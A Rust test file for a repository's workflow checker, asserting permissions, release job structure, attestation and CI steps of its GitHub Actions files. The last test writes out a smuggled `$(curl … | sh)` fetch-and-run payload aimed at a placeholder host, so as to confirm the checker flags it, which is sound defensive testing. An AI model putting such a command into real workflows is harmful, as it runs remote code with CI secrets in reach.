//! `cargo xtask workflows check` on the repository's own .github/ and on broken copies.

mod support;

use camino::Utf8Path;
use saphyr::{LoadableYamlNode, ScalarOwned, YamlOwned as Yaml};
use support::{Project, Run, repo_root, xtask};

#[test]
fn the_repositorys_workflows_pass_every_check() {
    let run = xtask(&["workflows", "check"]).run();
    assert_eq!(run.code, 0, "{}", run.all());
    assert!(
        run.stdout.contains("workflow rules: 0 finding(s)"),
        "{}",
        run.all()
    );
    assert!(
        run.stdout.contains("actionlint 1.17.0: clean"),
        "{}",
        run.all()
    );
    assert!(run.stdout.contains("zizmor 1.32.0: clean"), "{}", run.all());
}

/// `cargo xtask workflows check --rules-only --dir <github>`.
fn rules_only(github: &Project) -> Run {
    xtask(&[
        "workflows",
        "check",
        "--rules-only",
        "--dir",
        github.path().as_str(),
    ])
    .run()
}

fn copy_of_github() -> Project {
    let project = Project::empty();
    for entry in repo_root()
        .join(".github/workflows")
        .read_dir_utf8()
        .unwrap()
    {
        let entry = entry.unwrap();
        project.write(
            &format!("workflows/{}", entry.file_name()),
            &std::fs::read_to_string(entry.path()).unwrap(),
        );
    }
    project.write(
        "dependabot.yml",
        &std::fs::read_to_string(repo_root().join(".github/dependabot.yml")).unwrap(),
    );
    project
}

#[test]
fn a_broken_workflow_is_named_by_file_job_and_step() {
    let github = copy_of_github();
    let ci =
        github
            .read("workflows/ci.yml")
            .replacen("run: cargo xtask ci", "run: deno task ci", 1);
    github.write("workflows/ci.yml", &ci);
    let run = xtask(&["workflows", "check", "--dir", github.path().as_str()]).run();
    assert_eq!(run.code, 1, "{}", run.all());
    let file = github.path().join("workflows/ci.yml");
    assert!(
        run.stdout.contains(&format!("{file}:51: job gate, step #4: `deno task ci` is neither a cargo xtask call nor a set-up line")),
        "{}",
        run.all()
    );
}

#[test]
fn an_unknown_task_in_a_workflow_is_a_finding() {
    let github = copy_of_github();
    let ci = github.read("workflows/ci.yml").replacen(
        "run: cargo xtask ci",
        "run: cargo xtask ci --everything",
        1,
    );
    github.write("workflows/ci.yml", &ci);
    let run = rules_only(&github);
    assert_eq!(run.code, 1, "{}", run.all());
    assert!(run.stdout.contains("`cargo xtask ci --everything` is not a call this xtask accepts: unexpected argument '--everything'"), "{}", run.all());
}

#[test]
fn a_missing_directory_or_a_file_that_is_not_yaml() {
    let run = xtask(&["workflows", "check", "--dir", "/nonexistent/.github"]).run();
    assert_eq!(run.code, 2, "{}", run.all());
    assert!(
        run.stderr
            .contains("cannot read /nonexistent/.github/workflows: No such file or directory"),
        "{}",
        run.all()
    );
    assert_eq!(
        run.stderr.matches("No such file").count(),
        1,
        "said once: {}",
        run.all()
    );
    let github = copy_of_github();
    github.write("workflows/broken.yml", "jobs: [\n");
    let run = rules_only(&github);
    assert_eq!(run.code, 2, "{}", run.all());
    let file = Utf8Path::new(github.path().as_str()).join("workflows/broken.yml");
    assert!(
        run.stderr.contains(&format!("{file}: not valid YAML")),
        "{}",
        run.all()
    );
}

/// A workflow of the repository, parsed.
fn workflow(name: &str) -> Yaml {
    github_file(&format!("workflows/{name}"))
}

/// A file of the repository's .github/, parsed.
fn github_file(relative: &str) -> Yaml {
    let text = std::fs::read_to_string(repo_root().join(".github").join(relative)).unwrap();
    let mut documents = Yaml::load_from_str(&text).unwrap();
    documents.remove(0)
}

/// The value at a path of mapping keys, as text (`true`, `main`).
fn at(node: &Yaml, path: &[&str]) -> Option<String> {
    let mut node = node;
    for key in path {
        node = node.as_mapping_get(key)?;
    }
    match node {
        Yaml::Value(scalar) => Some(match scalar {
            ScalarOwned::String(text) => text.to_string(),
            ScalarOwned::Boolean(value) => value.to_string(),
            ScalarOwned::Integer(value) => value.to_string(),
            other => format!("{other:?}"),
        }),
        Yaml::Sequence(items) => Some(
            items
                .iter()
                .map(|item| item.as_str().unwrap_or("?"))
                .collect::<Vec<_>>()
                .join(","),
        ),
        _ => Some(String::from("<mapping>")),
    }
}

/// The `uses:` and `run:` of a job's steps, in order.
fn steps(job: &Yaml) -> Vec<String> {
    job.as_mapping_get("steps")
        .and_then(Yaml::as_sequence)
        .into_iter()
        .flatten()
        .filter_map(|step| {
            step.as_mapping_get("uses")
                .or_else(|| step.as_mapping_get("run"))
                .and_then(Yaml::as_str)
                .map(|text| text.split('@').next().unwrap_or_default().to_owned())
        })
        .collect()
}

/// The keys of a mapping, in order.
fn keys(node: &Yaml) -> Vec<String> {
    node.as_mapping()
        .into_iter()
        .flatten()
        .map(|(key, _)| key.as_str().unwrap_or("?").to_owned())
        .collect()
}

/// A job's steps that use `action` (`owner/name`, any version).
fn uses<'a>(job: &'a Yaml, action: &str) -> Vec<&'a Yaml> {
    job.as_mapping_get("steps")
        .and_then(Yaml::as_sequence)
        .into_iter()
        .flatten()
        .filter(|step| {
            step.as_mapping_get("uses")
                .and_then(Yaml::as_str)
                .is_some_and(|uses| uses.split('@').next() == Some(action))
        })
        .collect()
}

/// The scopes a job may write.
fn writes(job: &Yaml) -> Vec<String> {
    job.as_mapping_get("permissions")
        .and_then(Yaml::as_mapping)
        .into_iter()
        .flatten()
        .filter(|(_, level)| level.as_str() == Some("write"))
        .map(|(scope, _)| scope.as_str().unwrap_or("?").to_owned())
        .collect()
}

#[test]
fn both_release_workflows_run_the_same_jobs_one_release_of_a_version_at_a_time() {
    let manual = workflow("release-manual.yml");
    let on_tag = workflow("release-on-tag.yml");
    assert_eq!(
        at(
            &manual,
            &["on", "workflow_dispatch", "inputs", "version", "required"]
        )
        .as_deref(),
        Some("true")
    );
    assert_eq!(
        at(
            &manual,
            &["on", "workflow_dispatch", "inputs", "ref", "default"]
        )
        .as_deref(),
        Some("main")
    );
    assert_eq!(at(&on_tag, &["on", "push", "tags"]).as_deref(), Some("v*"));
    // `release-v${{ inputs.version }}` and `release-${{ github.ref_name }}` are one group
    // for a version: a manual release of 0.1.0 and the tag v0.1.0 never overlap.
    assert_eq!(
        at(&manual, &["concurrency", "group"]).as_deref(),
        Some("release-v${{ inputs.version }}")
    );
    assert_eq!(
        at(&on_tag, &["concurrency", "group"]).as_deref(),
        Some("release-${{ github.ref_name }}")
    );
    for caller in [&manual, &on_tag] {
        assert_eq!(
            at(caller, &["concurrency", "cancel-in-progress"]).as_deref(),
            Some("false")
        );
        assert_eq!(
            at(caller, &["jobs", "release", "uses"]).as_deref(),
            Some("$/.github/workflows/release.yml")
        );
        assert_eq!(
            at(caller, &["permissions", "contents"]).as_deref(),
            Some("read")
        );
    }
    let verify = on_tag
        .as_mapping_get("jobs")
        .unwrap()
        .as_mapping_get("verify")
        .unwrap();
    assert_eq!(
        steps(verify).last().map(String::as_str),
        Some("cargo xtask verify-tag \"$GITHUB_REF_NAME\"")
    );
    assert_eq!(
        at(&on_tag, &["jobs", "release", "needs"]).as_deref(),
        Some("verify")
    );
}

#[test]
fn the_release_jobs_write_only_where_they_must() {
    let release = workflow("release.yml");
    let on = release.as_mapping_get("on").unwrap().as_mapping().unwrap();
    assert_eq!(
        on.keys()
            .filter_map(|event| event.as_str())
            .collect::<Vec<_>>(),
        ["workflow_call"]
    );
    let jobs = release.as_mapping_get("jobs").unwrap();
    let job = |id: &str| jobs.as_mapping_get(id).unwrap();
    let (plan, build, publish) = (job("plan"), job("build"), job("publish"));

    assert_eq!(writes(plan), Vec::<String>::new());
    assert_eq!(
        steps(plan)[2..],
        [
            "cargo xtask release plan --json --version \"$VERSION\" --ref \"$REF\"",
            "cargo xtask ci"
        ],
        "the preflight, then the quality gate, before any build"
    );

    assert_eq!(at(build, &["needs"]).as_deref(), Some("plan"));
    assert_eq!(writes(build), ["id-token", "attestations"]);
    assert_eq!(
        at(build, &["strategy", "matrix"]).as_deref(),
        Some("${{ fromJSON(needs.plan.outputs.matrix) }}")
    );
    assert_eq!(
        steps(build)[2..],
        [
            "cargo xtask release build --target \"$TARGET\" --out-dir dist",
            "actions/attest-build-provenance",
            "actions/upload-artifact"
        ]
    );

    assert_eq!(at(publish, &["needs"]).as_deref(), Some("plan,build"));
    assert_eq!(writes(publish), ["contents"]);
    assert_eq!(
        at(publish, &["environment", "name"]).as_deref(),
        Some("release")
    );
    assert_eq!(
        steps(publish).last().map(String::as_str),
        Some("cargo xtask release publish dist --ref \"$COMMIT\"")
    );
    // Build and publish use the commit the plan checked, not the moving branch.
    for later in [build, publish] {
        let checkout = later
            .as_mapping_get("steps")
            .and_then(Yaml::as_sequence)
            .unwrap()
            .first()
            .unwrap();
        assert_eq!(
            at(checkout, &["with", "ref"]).as_deref(),
            Some("${{ needs.plan.outputs.commit }}")
        );
    }
}

#[test]
fn ci_runs_on_pull_requests_and_pushes_to_main_reading_only() {
    let ci = workflow("ci.yml");
    assert_eq!(
        keys(ci.as_mapping_get("on").unwrap()),
        ["pull_request", "push"]
    );
    assert!(
        ci.as_mapping_get("on")
            .unwrap()
            .as_mapping_get("pull_request")
            .unwrap()
            .is_null(),
        "every pull request, whatever its branches and paths"
    );
    assert_eq!(
        keys(
            ci.as_mapping_get("on")
                .unwrap()
                .as_mapping_get("push")
                .unwrap()
        ),
        ["branches"]
    );
    assert_eq!(
        at(&ci, &["on", "push", "branches"]).as_deref(),
        Some("main")
    );
    assert_eq!(
        keys(ci.as_mapping_get("permissions").unwrap()),
        ["contents"]
    );
    assert_eq!(
        at(&ci, &["permissions", "contents"]).as_deref(),
        Some("read")
    );
    let jobs = ci.as_mapping_get("jobs").unwrap();
    // The names are the status checks `github setup` requires on main.
    assert_eq!(keys(jobs), ["rust", "gate", "coverage"]);
    for (id, name, write) in [
        ("rust", "Rust checks", &[][..]),
        ("gate", "Quality gate", &[]),
        // The coverage comment on the pull request, and nothing else.
        ("coverage", "Coverage", &["pull-requests"]),
    ] {
        assert_eq!(at(jobs, &[id, "name"]).as_deref(), Some(name));
        assert_eq!(writes(jobs.as_mapping_get(id).unwrap()), write, "{id}");
    }
    assert_eq!(
        keys(
            jobs.as_mapping_get("coverage")
                .unwrap()
                .as_mapping_get("permissions")
                .unwrap()
        ),
        ["contents", "pull-requests"]
    );
    assert_eq!(
        at(jobs, &["coverage", "permissions", "contents"]).as_deref(),
        Some("read")
    );
}

#[test]
fn every_ci_job_sets_up_deno_from_dvmrc_and_caches_the_rust_build() {
    let ci = workflow("ci.yml");
    for (id, job) in ci.as_mapping_get("jobs").unwrap().as_mapping().unwrap() {
        let id = id.as_str().unwrap();
        assert_eq!(uses(job, "Swatinem/rust-cache").len(), 1, "{id}");
        assert_eq!(uses(job, "denoland/setup-deno").len(), 1, "{id}");
    }
    for name in [
        "ci.yml",
        "release.yml",
        "release-manual.yml",
        "release-on-tag.yml",
    ] {
        let workflow = workflow(name);
        for (id, job) in workflow
            .as_mapping_get("jobs")
            .unwrap()
            .as_mapping()
            .unwrap()
        {
            for step in uses(job, "denoland/setup-deno") {
                assert_eq!(
                    keys(step.as_mapping_get("with").unwrap()),
                    ["deno-version-file"],
                    "{name}, job {}: the version is .dvmrc's, nowhere else",
                    id.as_str().unwrap()
                );
                assert_eq!(
                    at(step, &["with", "deno-version-file"]).as_deref(),
                    Some(".dvmrc")
                );
            }
        }
    }
}

#[test]
fn ci_jobs_run_the_rust_checks_the_gate_and_coverage() {
    let ci = workflow("ci.yml");
    let jobs = ci.as_mapping_get("jobs").unwrap();
    let job = |id: &str| jobs.as_mapping_get(id).unwrap();
    assert_eq!(
        steps(job("rust"))[3..],
        [
            "cargo fmt --all --check",
            "cargo clippy --workspace --all-targets --locked -- -D warnings",
            "cargo clippy --workspace --all-targets --all-features --locked -- -D warnings",
            "cargo test --workspace --all-features --locked"
        ]
    );
    assert_eq!(steps(job("gate"))[3..], ["cargo xtask ci"]);

    let coverage = job("coverage");
    let checkout = uses(coverage, "actions/checkout");
    assert_eq!(checkout.len(), 1);
    assert_eq!(
        at(checkout[0], &["with", "fetch-depth"]).as_deref(),
        Some("0"),
        "full history"
    );
    assert_eq!(
        steps(coverage)[3..5],
        [
            "cargo xtask coverage --comment",
            "cargo xtask coverage --fail-under 0"
        ]
    );
    let pull_request_step = coverage
        .as_mapping_get("steps")
        .and_then(Yaml::as_sequence)
        .unwrap()
        .iter()
        .find(|step| at(step, &["run"]).as_deref() == Some("cargo xtask coverage --comment"))
        .unwrap();
    assert_eq!(
        at(pull_request_step, &["if"]).as_deref(),
        Some("github.event_name == 'pull_request'")
    );
    assert_eq!(
        at(pull_request_step, &["env", "GITHUB_TOKEN"]).as_deref(),
        Some("${{ github.token }}"),
        "the token only for the step that comments"
    );
    let upload = uses(coverage, "actions/upload-artifact");
    assert_eq!(upload.len(), 1);
    assert_eq!(
        at(upload[0], &["if"]).as_deref(),
        Some("always()"),
        "also when the gate fails"
    );
    assert_eq!(
        at(upload[0], &["with", "name"]).as_deref(),
        Some("coverage")
    );
    assert_eq!(
        at(upload[0], &["with", "path"]).as_deref(),
        Some("target/coverage/")
    );
    let codecov = uses(coverage, "codecov/codecov-action");
    assert_eq!(codecov.len(), 1);
    assert_eq!(
        at(codecov[0], &["if"]).as_deref(),
        Some("env.CODECOV_TOKEN != ''")
    );
    assert_eq!(
        at(coverage, &["env", "CODECOV_TOKEN"]).as_deref(),
        Some("${{ secrets.CODECOV_TOKEN }}")
    );
    assert_eq!(
        at(codecov[0], &["with", "token"]).as_deref(),
        Some("${{ env.CODECOV_TOKEN }}")
    );
    assert_eq!(
        at(codecov[0], &["with", "files"]).as_deref(),
        Some("target/coverage/lcov.info")
    );
}

#[test]
fn dependabot_updates_the_actions_weekly_and_nothing_else() {
    let dependabot = github_file("dependabot.yml");
    let updates = dependabot
        .as_mapping_get("updates")
        .and_then(Yaml::as_sequence)
        .unwrap();
    assert_eq!(updates.len(), 1);
    let update = &updates[0];
    assert_eq!(
        at(update, &["package-ecosystem"]).as_deref(),
        Some("github-actions")
    );
    assert_eq!(at(update, &["directory"]).as_deref(), Some("/"));
    assert_eq!(
        at(update, &["schedule", "interval"]).as_deref(),
        Some("weekly")
    );
}

#[test]
fn the_readme_verifies_attestations_against_the_workflow_that_signs_them() {
    let readme = std::fs::read_to_string(repo_root().join("README.md")).unwrap();
    let signer = readme
        .split("--signer-workflow OWNER/REPO/.github/")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .expect("README's gh attestation verify names the signer workflow");
    let attesting: Vec<String> = github_file(signer)
        .as_mapping_get("jobs")
        .and_then(Yaml::as_mapping)
        .unwrap()
        .iter()
        .filter(|(_, job)| !uses(job, "actions/attest-build-provenance").is_empty())
        .map(|(id, _)| id.as_str().unwrap().to_owned())
        .collect();
    assert_eq!(attesting, ["build"], "{signer} signs the attestations");
    // Both releases run it, so one --signer-workflow covers every release.
    for caller in ["release-manual.yml", "release-on-tag.yml"] {
        assert_eq!(
            at(&workflow(caller), &["jobs", "release", "uses"]),
            Some(format!("$/.github/{signer}"))
        );
    }
}

#[test]
fn a_workflow_file_of_50_mb_is_refused_unparsed() {
    let github = copy_of_github();
    let step = "      - run: cargo xtask ci\n";
    let mut big = String::from("on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n");
    big.push_str(&step.repeat((50 << 20) / step.len()));
    github.write("workflows/big.yml", &big);
    let run = rules_only(&github);
    assert_eq!(run.code, 2, "{}", run.all());
    let file = github.path().join("workflows/big.yml");
    assert!(
        run.stderr.contains(&format!(
            "{file} is {} bytes: workflow files over 2097152 bytes (2 MiB) are refused before parsing",
            big.len()
        )),
        "{}",
        run.all()
    );
}

#[test]
fn a_run_step_that_runs_more_than_its_command_is_a_finding() {
    let github = copy_of_github();
    let ci = github.read("workflows/ci.yml").replacen(
        "run: cargo xtask coverage --comment\n",
        "run: cargo xtask coverage --comment --base \"$(curl -s https://x.invalid | sh)\"\n",
        1,
    );
    github.write("workflows/ci.yml", &ci);
    let run = rules_only(&github);
    assert_eq!(run.code, 1, "{}", run.all());
    assert!(
        run.stdout.contains("holds `$(` (command substitution)"),
        "{}",
        run.all()
    );
}
